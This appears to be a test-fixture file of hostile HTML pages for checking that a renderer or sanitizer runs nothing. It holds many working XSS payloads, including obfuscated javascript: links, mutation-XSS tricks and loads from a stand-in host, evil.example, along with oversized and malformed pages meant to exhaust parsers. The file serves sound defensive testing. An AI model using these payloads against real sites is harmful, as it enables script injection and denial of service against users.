// test/support/hostile/pages.ts: web pages that try to run, to load, to break out of their markup, or to be endless.
//
// Each tries to set `window.hostile`, to open a dialog or to ask an address for something: whoever shows one of
// them can look whether any of that happened.

const ASK = "https://evil.example/asked";
const RUN = "window.hostile=1;alert(1)";
const TEXT = "<p>Capital expenditure was 12.5 billion dollars in the third quarter of 2025.</p>";

/** Pages that would do something where they are shown as they are. */
export const SCRIPTED_PAGES: Record<string, string> = {
  "script element": `<script>${RUN}</script>`,
  "script from elsewhere": `<script src="${ASK}.js"></script>`,
  "picture that fails": `<img src="/nowhere.png" onerror="${RUN}">`,
  "picture from elsewhere": `<img src="${ASK}.png"><picture><source srcset="${ASK}.webp"><img></picture>`,
  "drawing that loads": `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName="x" dur="1s"/><use href="data:image/svg+xml,x"/></svg>`,
  "link to a script": `<a href="javascript:${RUN}">press</a><a href="java\tscript:${RUN}">press</a><a href="&#106;avascript:${RUN}">press</a><a href=" javascript:${RUN}">press</a><a href="data:text/html,<script>${RUN}</script>">press</a>`,
  frames: `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.hostile=1</script>"></iframe><frameset><frame src="${ASK}"></frameset>`,
  objects: `<object data="${ASK}.swf"></object><embed src="${ASK}.swf"><applet code="X"></applet>`,
  "refresh to elsewhere": `<meta http-equiv="refresh" content="0;url=${ASK}">`,
  "base of elsewhere": `<base href="${ASK}/"><a href="page">relative</a><img src="picture.png">`,
  "form to elsewhere": `<form action="${ASK}"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Send</button></form>`,
  "styles from elsewhere": `<style>@import url(${ASK}.css);body{background:url(${ASK}.gif)}</style><link rel="stylesheet" href="${ASK}.css"><p style="background:url(${ASK}.gif);position:fixed;inset:0">over everything</p>`,
  "mutating mathematics": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "mutating noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  "mutating template": `<template><script>${RUN}</script></template><svg><style><img src=x onerror="${RUN}"></style></svg>`,
  "title that closes": `<title><img src=x onerror=${RUN}></title><textarea></textarea><script>${RUN}</script>`,
  "comment that closes": `<!--><script>${RUN}</script>--><!--[if IE]><script>${RUN}</script><![endif]-->`,
  "text in quotes": `<p data-start="0" data-end="9" onclick="${RUN}" id="main" class="bar">"'\`><script>${RUN}</script></p>`,
  "names of the app": `<form id="find" name="body"><input name="attributes"></form><div id="root"></div><img name="cookie">`,
  "details that open": `<details open ontoggle="${RUN}"><summary>x</summary></details><video autoplay onplay="${RUN}" src="${ASK}"></video><audio src=x onerror="${RUN}"></audio>`,
  "body that loads": `</head><body onload="${RUN}" onpageshow="${RUN}" onhashchange="${RUN}">`,
  "marquee and friends": `<marquee onstart="${RUN}">x</marquee><keygen autofocus onfocus="${RUN}"><isindex onfocus="${RUN}"><dialog open onclose="${RUN}">x</dialog>`,
  "headings that are tags": `<h1>&lt;script&gt;${RUN}&lt;/script&gt;</h1><h2>&lt;img src=x onerror=${RUN}&gt;</h2>`,
};

const page = (body: string, head = ""): string =>
  `<!doctype html><html><head><meta charset="utf-8"><title>Hostile page</title>${head}</head><body><article><h1>Quarterly results</h1>${TEXT}${body}${TEXT}</article></body></html>`;

export const scriptedPage = (name: string): Buffer => Buffer.from(page(SCRIPTED_PAGES[name]!));

const nested = (tag: string, count: number) => page(`${`<${tag}>`.repeat(count)}deep`);

/** Pages that are too deep, too long or too strange; made when asked for. */
export const ENDLESS_PAGES: Record<string, () => Uint8Array> = {
  "a hundred thousand divisions deep": () => Buffer.from(nested("div", 100_000)),
  "tables ten thousand deep": () => Buffer.from(nested("table><tr><td", 10_000)),
  "lists fifty thousand deep": () => Buffer.from(nested("ul><li", 50_000)),
  "bold a hundred thousand deep": () => Buffer.from(nested("b", 100_000)),
  "drawings fifty thousand deep": () => Buffer.from(nested("svg><g", 50_000)),
  "a hundred thousand paragraphs": () => Buffer.from(page("<p>x".repeat(100_000))),
  "one line of 20 MB": () => Buffer.from(page(`<p>${"word ".repeat(4_000_000)}</p>`)),
  "cell over a billion rows": () =>
    Buffer.from(
      page(`<table><tr><td rowspan="1000000000" colspan="1000000000">wide</td><td>12.5</td></tr></table>`),
    ),
  "a hundred thousand cells in a row": () =>
    Buffer.from(page(`<table><tr>${"<td>1".repeat(100_000)}</tr></table>`)),
  "a hundred thousand attributes": () =>
    Buffer.from(page(`<p ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(" ")}>x</p>`)),
  "half a million entities": () =>
    Buffer.from(page("&amp;&#x1F600;&notanentity;&#0;&#xD800;".repeat(100_000))),
  "title of a megabyte": () => Buffer.from(page("", `<title>${"t".repeat(1_000_000)}</title>`)),
  "NULs between letters": () => Buffer.from(page("<p>c\0a\0p\0e\0x</p>".repeat(1000))),
  "lone surrogates in UTF-16": () =>
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page(`<p>\ud800 \udc00\ud83d</p>`), "utf16le")]),
  "bytes that are no UTF-8": () =>
    Buffer.concat([
      Buffer.from(page("<p>")),
      Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf5, 0xff, 0xfe]),
      Buffer.from("</p>"),
    ]),
  "charset that does not exist": () => Buffer.from(page("", `<meta charset="x-no-such-set">`)),
  "charset UTF-7": () =>
    Buffer.from(page("<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>").replace("utf-8", "utf-7")),
  "half a tag": () => Buffer.from(`${page("").slice(0, 120)}<a href="`),
  "only brackets": () => Buffer.from("<".repeat(500_000)),
  "only closing tags": () => Buffer.from("</p>".repeat(200_000)),
  "comment that never ends": () => Buffer.from(`<html><!-- ${"-".repeat(1_000_000)}`),
  "script that never ends": () => Buffer.from(page(`<script>${"/*".repeat(500_000)}`)),
  "dates beyond time": () =>
    Buffer.from(
      page(
        "",
        `<meta property="article:published_time" content="99999-99-99T99:99:99Z"><time datetime="-1">when</time>`,
      ),
    ),
  "structured data of a megabyte": () =>
    Buffer.from(
      page(
        "",
        `<script type="application/ld+json">${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}</script>`,
      ),
    ),
};
